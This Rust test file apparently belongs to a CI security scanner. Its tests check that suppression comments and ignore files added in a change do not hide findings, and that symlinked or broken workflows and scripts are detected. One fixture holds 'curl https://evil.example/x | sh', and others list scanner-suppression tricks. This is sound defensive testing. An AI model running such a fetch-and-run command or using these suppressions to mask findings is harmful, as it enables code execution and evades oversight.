//! What a change brings along hides nothing of it.

use std::fs;

use super::scene::{CALM, CI, Desk, privileged};

#[test]
fn suppressions_that_a_change_brings_count_for_nothing() {
    let desk = Desk::with(&[(CI, CALM)]);
    desk.writes(&[(CI, &privileged())]);
    let plain = desk.judges_last();
    let plain: Vec<_> = plain.findings("privileged-container");
    desk.work.goes_back_to("HEAD~1");
    let hushed = privileged()
        .replace(
            "--privileged",
            "--privileged # zizmor: ignore[all] # nosec # noqa",
        )
        .replace(
            "name: ci\n",
            "# zizmor: ignore\n# checkov:skip=CKV_GHA_1:ok\n# forgewarden: ignore\nname: ci\n",
        );
    desk.writes(&[
        (CI, &hushed),
        (
            ".github/zizmor.yml",
            "rules:\n  all:\n    ignore: [ci.yml]\n",
        ),
        ("zizmor.yml", "rules: {}\n"),
        (
            ".gitattributes",
            ".github/** linguist-generated -diff export-ignore filter=lfs\n",
        ),
        (".gitignore", ".github\n"),
        (".checkov.yml", "skip-path: [.github]\n"),
    ]);
    let said = desk.judges_last();
    let found = said.findings("privileged-container");
    assert_eq!(found.len(), plain.len(), "{:#}", said.0);
    assert_eq!(found[0]["fingerprint"], plain[0]["fingerprint"]);
    assert_eq!(said.0["conclusion"], "fail");
}

#[test]
fn a_workflow_that_turns_into_a_link_is_not_a_removed_one() {
    let desk = Desk::with(&[(CI, CALM), ("ci/real.yml", CALM)]);
    let file = desk.work.folder().join(CI);
    fs::remove_file(&file).expect("removed");
    std::os::unix::fs::symlink("../../ci/real.yml", &file).expect("linked");
    desk.work.git(&["add", "-A"]);
    desk.writes(&[("app.txt", "one\n")]);
    let said = desk.judges_last();
    assert_eq!(said.findings("ci-path-symlink").len(), 1, "{:#}", said.0);
    let all = said.capabilities();
    assert!(
        all.iter().any(|one| one.contains("cannot be told")),
        "{all:#?}"
    );
    assert!(!all.iter().any(|one| one.contains("is gone")), "{all:#?}");
}

#[test]
fn a_workflow_that_no_longer_parses_is_not_a_removed_one() {
    let desk = Desk::with(&[(CI, CALM)]);
    desk.writes(&[(CI, &format!("{CALM}jobs: again\n"))]);
    let said = desk.judges_last();
    assert_eq!(
        said.findings("ci-config-unparsable").len(),
        1,
        "{:#}",
        said.0
    );
    let all = said.capabilities();
    assert!(
        all.iter().any(|one| one.contains("cannot be told")),
        "{all:#?}"
    );
    assert!(!all.iter().any(|one| one.contains("is gone")), "{all:#?}");
}

/// A folder that becomes a link changes what every file below it is.
#[test]
fn a_folder_of_scripts_that_becomes_a_link_is_seen() {
    let calls = CALM.replace("- run: make\n", "- run: ./ci/build.sh\n");
    let script = "#!/bin/sh\nmake\n";
    let evil = "#!/bin/sh\ncurl https://evil.example/x | sh\n";
    let desk = Desk::with(&[
        (CI, &calls),
        ("ci/build.sh", script),
        ("docs/build.sh", evil),
    ]);
    desk.work.git(&["rm", "-q", "-r", "ci"]);
    std::os::unix::fs::symlink("docs", desk.work.folder().join("ci")).expect("linked");
    desk.work.git(&["add", "-A"]);
    desk.writes(&[("app.txt", "one\n")]);
    let all = desk.judges_last().capabilities();
    assert!(all.iter().any(|one| one.contains("curl")), "{all:#?}");
}

/// An object that git cannot read is an error, never an empty file.
#[test]
fn what_git_cannot_read_is_not_nothing() {
    let calls = CALM.replace("- run: make\n", "- run: ./ci/build.sh\n");
    let desk = Desk::with(&[(CI, &calls), ("ci/build.sh", "#!/bin/sh\nmake\n")]);
    let blob = desk.work.git(&["rev-parse", "HEAD:ci/build.sh"]);
    desk.writes(&[(CI, &calls.replace("name: ci", "name: other"))]);
    let (folder, file) = blob.split_at(2);
    let object = desk
        .work
        .folder()
        .join(".git/objects")
        .join(folder)
        .join(file);
    fs::remove_file(object).expect("removed");
    let said = desk.judges_last();
    assert_eq!(said.0["conclusion"], "error", "{:#}", said.0);
}
